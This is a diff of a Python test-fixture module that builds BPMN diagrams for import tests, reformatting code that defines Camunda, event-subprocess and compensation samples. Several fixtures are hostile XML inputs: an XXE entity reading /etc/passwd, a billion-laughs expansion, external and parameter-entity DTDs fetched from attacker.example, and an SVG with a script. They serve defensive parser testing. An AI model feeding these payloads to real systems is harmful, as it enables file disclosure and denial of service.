@@ -1,30 +1,40 @@
 """Diagrams written the way other tools save them, for the import tests: Camunda Modeler (camunda: extensions,
 a collaboration of pools), Signavio and Trisotech exports (their own namespaces and prefixes), a diagram with no
 layout, an event subprocess, compensation; and hostile files."""
+
 from __future__ import annotations
 
 BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
-DI_NS = ('xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" '
-         'xmlns:di="http://www.omg.org/spec/DD/20100524/DI"')
+DI_NS = (
+    'xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" '
+    'xmlns:di="http://www.omg.org/spec/DD/20100524/DI"'
+)
 SPIFF = 'xmlns:spiffworkflow="http://spiffworkflow.org/bpmn/schema/1.0/core"'
 
 
 def _shape(el: str, x: int, y: int, w: int = 100, h: int = 80, p: str = "bpmndi") -> str:
-    return (f'<{p}:BPMNShape id="{el}_di" bpmnElement="{el}"><dc:Bounds x="{x}" y="{y}" width="{w}" height="{h}"/>'
-            f'</{p}:BPMNShape>')
+    return (
+        f'<{p}:BPMNShape id="{el}_di" bpmnElement="{el}"><dc:Bounds x="{x}" y="{y}" width="{w}" height="{h}"/>'
+        f"</{p}:BPMNShape>"
+    )
 
 
 def _edge(el: str, x1: int, y1: int, x2: int, y2: int, p: str = "bpmndi") -> str:
-    return (f'<{p}:BPMNEdge id="{el}_di" bpmnElement="{el}"><di:waypoint x="{x1}" y="{y1}"/>'
-            f'<di:waypoint x="{x2}" y="{y2}"/></{p}:BPMNEdge>')
+    return (
+        f'<{p}:BPMNEdge id="{el}_di" bpmnElement="{el}"><di:waypoint x="{x1}" y="{y1}"/>'
+        f'<di:waypoint x="{x2}" y="{y2}"/></{p}:BPMNEdge>'
+    )
 
 
 def camunda_pools(stem: str = "follow_up_call", camunda_form: bool = True) -> str:
     """A Carepath pathway as Camunda Modeler 5 saves it after an edit there: camunda: attributes and elements
     on the process and the task, modeler: attributes on the root, and a second pool for the client (not
     executable) joined by message flows. Carepath can run it."""
-    form_key = ' camunda:formKey="camunda-forms:deployment:consent.form" camunda:candidateGroups="case_manager"' \
-        if camunda_form else ""
+    form_key = (
+        ' camunda:formKey="camunda-forms:deployment:consent.form" camunda:candidateGroups="case_manager"'
+        if camunda_form
+        else ""
+    )
     return f'''<?xml version="1.0" encoding="UTF-8"?>
 <bpmn:definitions xmlns:bpmn="{BPMN}" {DI_NS} {SPIFF} xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:modeler="http://camunda.org/schema/modeler/1.0" id="Definitions_0x1" targetNamespace="http://bpmn.io/schema/bpmn" exporter="Camunda Modeler" exporterVersion="5.17.0" modeler:executionPlatform="Camunda Platform" modeler:executionPlatformVersion="7.20.0">
   <bpmn:collaboration id="Collaboration_1">
@@ -214,7 +224,7 @@ def no_layout(stem: str = "no_layout") -> str:
 
 def event_subprocess(stem: str = "with_event_subprocess") -> str:
     """An interrupting event subprocess started by a message (a 'crisis from anywhere' drawn inside)."""
-    body = '''    <bpmn:subProcess id="crisis_sub" name="Crisis while waiting" triggeredByEvent="true">
+    body = """    <bpmn:subProcess id="crisis_sub" name="Crisis while waiting" triggeredByEvent="true">
       <bpmn:startEvent id="crisis_start" name="Crisis reported" isInterrupting="true">
         <bpmn:outgoing>cf1</bpmn:outgoing>
         <bpmn:messageEventDefinition id="med_crisis" messageRef="Message_crisis" />
@@ -224,47 +234,50 @@ def event_subprocess(stem: str = "with_event_subprocess") -> str:
       <bpmn:endEvent id="crisis_end"><bpmn:incoming>cf2</bpmn:incoming></bpmn:endEvent>
       <bpmn:sequenceFlow id="cf1" sourceRef="crisis_start" targetRef="note_crisis" />
       <bpmn:sequenceFlow id="cf2" sourceRef="note_crisis" targetRef="crisis_end" />
-    </bpmn:subProcess>'''
+    </bpmn:subProcess>"""
     return _carepath_process(stem, body, "<bpmn:flowNodeRef>crisis_sub</bpmn:flowNodeRef>")
 
 
 def compensation(stem: str = "with_compensation") -> str:
     """A booking undone by compensation: a compensation boundary event, its handler, and a throw."""
-    body = '''    <bpmn:boundaryEvent id="undo_boundary" attachedToRef="call_client">
+    body = """    <bpmn:boundaryEvent id="undo_boundary" attachedToRef="call_client">
       <bpmn:compensateEventDefinition id="ced_boundary" />
     </bpmn:boundaryEvent>
     <bpmn:scriptTask id="cancel_call" name="Cancel the call" isForCompensation="true">
       <bpmn:script>call_cancelled = True</bpmn:script>
     </bpmn:scriptTask>
-    <bpmn:association id="assoc_undo" associationDirection="One" sourceRef="undo_boundary" targetRef="cancel_call" />'''
-    return _carepath_process(stem, body, "<bpmn:flowNodeRef>undo_boundary</bpmn:flowNodeRef>"
-                                         "<bpmn:flowNodeRef>cancel_call</bpmn:flowNodeRef>")
+    <bpmn:association id="assoc_undo" associationDirection="One" sourceRef="undo_boundary" targetRef="cancel_call" />"""
+    return _carepath_process(
+        stem, body, "<bpmn:flowNodeRef>undo_boundary</bpmn:flowNodeRef><bpmn:flowNodeRef>cancel_call</bpmn:flowNodeRef>"
+    )
 
 
 def with_script(stem: str, script: str) -> str:
     """A runnable pathway whose script task runs `script` (for the hostile-script tests)."""
-    body = f'''    <bpmn:scriptTask id="hostile" name="Prepare"><bpmn:script>{script}</bpmn:script></bpmn:scriptTask>'''
+    body = f"""    <bpmn:scriptTask id="hostile" name="Prepare"><bpmn:script>{script}</bpmn:script></bpmn:scriptTask>"""
     return _carepath_process(stem, body, "<bpmn:flowNodeRef>hostile</bpmn:flowNodeRef>")
 
 
-XXE = '''<?xml version="1.0"?>
+XXE = """<?xml version="1.0"?>
 <!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
 <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"><bpmn:process id="xxe" isExecutable="true"><bpmn:documentation>&xxe;</bpmn:documentation></bpmn:process></bpmn:definitions>
-'''
-BILLION_LAUGHS = '''<?xml version="1.0"?>
+"""
+BILLION_LAUGHS = """<?xml version="1.0"?>
 <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
 <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"><bpmn:process id="lolz" isExecutable="true"><bpmn:documentation>&lol4;</bpmn:documentation></bpmn:process></bpmn:definitions>
-'''
-EXTERNAL_DTD = '''<?xml version="1.0"?>
+"""
+EXTERNAL_DTD = """<?xml version="1.0"?>
 <!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
 <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"/>
-'''
-PARAMETER_ENTITY = '''<?xml version="1.0"?>
+"""
+PARAMETER_ENTITY = """<?xml version="1.0"?>
 <!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
 <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"/>
-'''
+"""
 SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
-DMN_AS_BPMN = ('<?xml version="1.0"?><definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="x" '
-               'name="x" namespace="x"/>')
+DMN_AS_BPMN = (
+    '<?xml version="1.0"?><definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="x" '
+    'name="x" namespace="x"/>'
+)
 HTML = "<html><body><h1>not a diagram</h1></body></html>"
